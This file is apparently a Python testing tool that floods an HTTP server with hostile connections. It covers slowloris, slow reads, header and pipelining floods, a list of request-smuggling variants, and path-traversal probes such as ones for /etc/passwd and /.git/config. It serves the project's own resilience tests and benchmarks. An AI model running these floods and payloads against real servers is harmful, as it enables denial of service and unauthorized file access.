"""Clients that mean harm, for tests/system/test_http_malice.py and tools/bench_malice.py.

    tools/malice.py HOST:PORT ATTACK [--connections N] [--source ADDRESS]

An attack is a crowd: many connections that all do the same, from one thread. Run as a program, it attacks until its
standard input ends, and prints what became of the connections.
"""

import argparse
import collections
import json
import random
import re
import resource
import select
import socket
import struct
import sys
import threading
import time

STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")
BATCH = 200  # connections begun at once
LONGEST = 40  # seconds that a connection lasts whose next one waits
MOST_KEPT = 256 * 1024  # bytes received of one connection
BIND_WITHOUT_PORT = 24  # IP_BIND_ADDRESS_NO_PORT: many connections may share a port of their own


def get(target, *lines, method="GET"):
    return "\r\n".join([f"{method} {target} HTTP/1.1", "Host: kurs.example", *lines, "", ""]).encode("latin-1")


def web_socket(target="/api/v2/ws"):
    return get(target, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
               "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")


COURSES = get("/api/v1/courses")
POST = get("/api/v1/courses", "Content-Length: 16000", method="POST")
CHUNKED = "Transfer-Encoding: chunked"
SMUGGLED = "/api/v1/smuggled"  # the target of a request that must stay part of a body or of nothing
HIDDEN = get(SMUGGLED)
CLIENT_HELLO = bytes.fromhex("16030102000100" "01fc0303") + bytes(range(1, 256)) * 2

# Messages whose end one parser sees here and another one there. Each is the last one of its connection.
SMUGGLING = {
    "length and chunks": get("/api/v1/courses", f"Content-Length: {len(HIDDEN) + 5}", CHUNKED, method="POST") + b"0\r\n\r\n" + HIDDEN,
    "chunks and length": get("/api/v1/courses", CHUNKED, "Content-Length: 5", method="POST") + b"0\r\n\r\n" + HIDDEN,
    "two lengths": get("/api/v1/courses", "Content-Length: 0", f"Content-Length: {len(HIDDEN)}", method="POST") + HIDDEN,
    "a list of lengths": get("/api/v1/courses", f"Content-Length: 0, {len(HIDDEN)}", method="POST") + HIDDEN,
    "a signed length": get("/api/v1/courses", "Content-Length: +0", method="POST") + HIDDEN,
    "a length of another base": get("/api/v1/courses", "Content-Length: 0x0", method="POST") + HIDDEN,
    "a length before a space": get("/api/v1/courses", "Content-Length : 0", method="POST") + HIDDEN,
    "another coding": get("/api/v1/courses", "Transfer-Encoding: xchunked", method="POST") + b"0\r\n\r\n" + HIDDEN,
    "two codings": get("/api/v1/courses", "Transfer-Encoding: gzip, chunked", method="POST") + b"0\r\n\r\n" + HIDDEN,
    "a coding twice": get("/api/v1/courses", CHUNKED, CHUNKED, method="POST") + b"0\r\n\r\n" + HIDDEN,
    "a coding after a tab": get("/api/v1/courses", "Transfer-Encoding:\x0bchunked", method="POST") + b"0\r\n\r\n" + HIDDEN,
    "a coding before a space": get("/api/v1/courses", "Transfer-Encoding : chunked", method="POST") + b"0\r\n\r\n" + HIDDEN,
    "a coding of an old version": get("/api/v1/courses", CHUNKED).replace(b"HTTP/1.1", b"HTTP/1.0") + b"0\r\n\r\n" + HIDDEN,
    "a size that wraps": get("/api/v1/courses", CHUNKED, method="POST") + b"10000000000000000\r\n" + HIDDEN,
    "a size of another base": get("/api/v1/courses", CHUNKED, method="POST") + b"0x0\r\n\r\n" + HIDDEN,
    "a line feed in an extension": get("/api/v1/courses", CHUNKED, method="POST") + b"1;a\nx\r\n0\r\n\r\n" + HIDDEN,
    "a line feed in a name": b"GET /api/v1/courses HTTP/1.1\r\nHost: k\r\nX:\nContent-Length: 9\r\r\n\r\n" + HIDDEN,
    "two hosts": b"GET /api/v1/courses HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n" + HIDDEN,
    "a carriage return in a line": b"GET /api/v1/courses HTTP/1.1\r\nHost: k\r\nX: \rTransfer-Encoding: chunked\r\n\r\n" + HIDDEN,
    "a version to come": b"GET /api/v1/courses HTTP/2.0\r\nHost: k\r\n\r\n" + HIDDEN,
}

PATHS = ["/api/v1/../../metrics", "/api/v1/..%2f..%2fmetrics", "/api/v1/%2e%2e/%2e%2e/metrics", "//metrics", "/./metrics", "/metrics/",
         "/metrics/../api/v1/courses/../../livez", "/api/v1/courses/..;/livez", "/api/v1\\..\\metrics", "/api/v1/courses%00",
         "/api/v1/courses%2f", "/%61pi/v1/..%5c..%5clivez", "/assets/../../../../etc/passwd", "/assets/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
         "/problems/404.json", "/API/V1/COURSES", "/api/v1/courses/" + "a/" * 500, "/api/v2/courses/" + "%41" * 500, "/metrics#/api/v1/courses",
         "/livez;/api/v1/courses", "/.git/config", "/..", "/%"]
BYTES = ["/\xff\xfe", "/api/v2/courses/\xc0\xaf", "/api/v1/courses?direction=\xed\xa0\x80", "/api/v1/courses?direction=%ff%fe",
         "/api/v1/courses?exchanger=%c0%80", "/api/v1/courses?%f5%80%80%80=1", "/api/v2/courses/%ed%a0%80",
         "/api/v1/courses?direction=\u202e".encode().decode("latin-1"), "/api/v2/stream?last_event_id=%ff"]
QUERIES = ["/api/v1/courses?" + query for query in
           ("direction=" + "BTC-USD," * 480 + "BTC-USD", "direction=BTC-USD&" * 200 + "direction=BTC-USD", "&" * 3900, "a=1&" * 900 + "a=1",
            "direction=" + "%42" * 1200, "max_age=" + "9" * 3900, "direction[]=" + "[" * 3800, "direction=" + "A" * 20_000)]

# What all connections of a crowd do. `requests`: each sends the next one at once, then `then` every `every` seconds; `waits`:
# once it is answered. `reads`: bytes every `every` seconds; None: all. `again`: one that has ended is followed by another.
Way = collections.namedtuple("Way", "requests then every waits reads half_closes resets again",
                             defaults=(b"", 1, False, None, False, False, False))

ATTACKS = {
    "slowloris": Way([COURSES[:-2]], b"X: y\r\n"),
    "slow bodies": Way([POST], b"x"),
    "slow reads": Way([get("/openapi.json") * 20], reads=100),
    "idle connections": Way([b""]),
    "header floods": Way([COURSES[:-2] + b"X: y\r\n" * 3000, COURSES[:-2] + b"X: " + b"y" * 60_000, COURSES[:-2] + b"X" * 60_000],
                         again=True),
    "pipelining floods": Way([COURSES * 99 + get("/api/v1/courses", "Connection: close")], again=True),
    "pipelining, never read": Way([COURSES * 3000], reads=0),
    "half-closed": Way([COURSES, COURSES[:-2], b"", POST + b"x" * 100], half_closes=True, again=True),
    "connections that come and go": Way([COURSES, b"", COURSES[:9]], resets=True, again=True),
    "TLS": Way([CLIENT_HELLO], again=True),
    "smuggling": Way(list(SMUGGLING.values()), again=True),
    "path tricks": Way([get(path, "Connection: close") for path in PATHS], again=True),
    "malformed UTF-8": Way([get(path, "Connection: close", "X: \xc3\x28") for path in BYTES], again=True),
    "huge queries": Way([get(path, "Connection: close") for path in QUERIES], again=True),
    "streams that stall": Way([get("/api/v2/stream")], reads=0),
    "WebSockets that stall": Way([web_socket()], reads=0),
    "floods of pings": Way([web_socket()], (b"\x89\xe4\0\0\0\0" + b"p" * 100) * 50, 0.05, waits=True),
}


class Member:
    """One connection of a crowd."""

    def __init__(self, address, source, way, request):
        self.way, self.request, self.unsent = way, request, request
        self.must_act = way.half_closes or way.resets  # once the request is sent
        self.begun_at = time.monotonic()
        self.acts_at = self.begun_at + random.random() * way.every
        self.received = b""
        self.socket = socket.socket()
        self.socket.setblocking(False)
        if way.reads is not None:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        if source:
            self.socket.setsockopt(socket.IPPROTO_IP, BIND_WITHOUT_PORT, 1)
            self.socket.bind((source, 0))
        self.socket.connect_ex(address)

    def work(self, events):
        """Returns how the connection ended, once it has."""
        try:
            if events & ~select.EPOLLOUT:
                piece = self.socket.recv(65536 if self.way.reads is None else max(1, self.way.reads))
                if not piece:
                    return "closed"
                if len(self.received) < MOST_KEPT:
                    self.received += piece
            if events & select.EPOLLOUT:
                self.unsent = self.unsent[self.socket.send(self.unsent):]
                if self.must_act and not self.unsent:
                    self.must_act = False
                    if self.way.resets:
                        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                        return "left"
                    self.socket.shutdown(socket.SHUT_WR)
        except BlockingIOError:
            pass
        except OSError:
            return "reset"
        return None

    def act(self, now):
        """What it does every while."""
        if now < self.acts_at:
            return None
        self.acts_at = now + self.way.every
        if self.received or not self.way.waits:
            self.unsent = self.unsent or self.way.then
        return self.work(select.EPOLLIN) if self.way.reads else None

    def wants(self):
        return (select.EPOLLIN if self.way.reads is None else 0) | (select.EPOLLOUT if self.unsent or self.must_act else 0)


class Crowd(threading.Thread):
    """The attack, until it is stopped. `ends` counts, by request, (statuses, how the connection ended)."""

    def __init__(self, address, attack, connections, source=None):
        super().__init__(daemon=True)
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        self.address, self.source = address, source
        self.way = ATTACKS[attack]
        self.connections = min(connections, hard - 300)
        self.members = {}
        self.begun = 0
        self.ends = collections.defaultdict(collections.Counter)
        self.is_complete = threading.Event()  # all have been opened
        self.ended = threading.Event()
        self.failure = None
        self.start()

    def run(self):
        try:
            with select.epoll() as poller:
                self.attack(poller)
        except Exception as failure:  # shown by `stop`
            self.failure = failure
        for member in self.members.values():
            member.socket.close()

    def attack(self, poller):
        acted_at = 0.0
        while not self.ended.is_set():
            self.open_some(poller)
            for number, events in poller.poll(0.02, 500):
                self.move_on(poller, number, self.members[number].work(events))
            now = time.monotonic()
            if now - acted_at < 0.05:
                continue
            acted_at = now
            for number, member in list(self.members.items()):
                how = member.act(now)
                if self.way.again and not how and now - member.begun_at > LONGEST:
                    how = "open"
                if how or self.way.then:
                    self.move_on(poller, number, how)

    def open_some(self, poller):
        room = self.connections - (len(self.members) if self.way.again else self.begun)
        for _ in range(min(room, BATCH)):
            member = Member(self.address, self.source, self.way, self.way.requests[self.begun % len(self.way.requests)])
            self.members[member.socket.fileno()] = member
            poller.register(member.socket, member.wants())
            self.begun += 1
        if self.begun >= self.connections:
            self.is_complete.set()

    def move_on(self, poller, number, how):
        member = self.members[number]
        if not how:
            return poller.modify(number, member.wants())
        del self.members[number]
        statuses = tuple(int(status) for status in STATUS.findall(member.received))
        self.ends[member.request][statuses, how] += 1
        poller.unregister(number)
        return member.socket.close()

    def begin_no_more(self):
        """The last connections end as they do."""
        self.connections = 0
        self.way = self.way._replace(again=False)

    def stop(self):
        self.ended.set()
        self.join(30)
        if self.failure:
            raise RuntimeError("the attack ended early") from self.failure
        return self.ends


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("address")
    arguments.add_argument("attack", choices=ATTACKS)
    arguments.add_argument("--connections", type=int, default=200)
    arguments.add_argument("--source")
    asked = arguments.parse_args()
    host, port = asked.address.split(":")
    crowd = Crowd((host, int(port)), asked.attack, asked.connections, asked.source)
    crowd.is_complete.wait(60)
    print("attacking", flush=True)
    sys.stdin.buffer.read()
    ends = sum(crowd.stop().values(), collections.Counter())
    print(json.dumps({"begun": crowd.begun, "ends": [[statuses[:3], how, count] for (statuses, how), count in ends.most_common(20)]}))


if __name__ == "__main__":
    main()
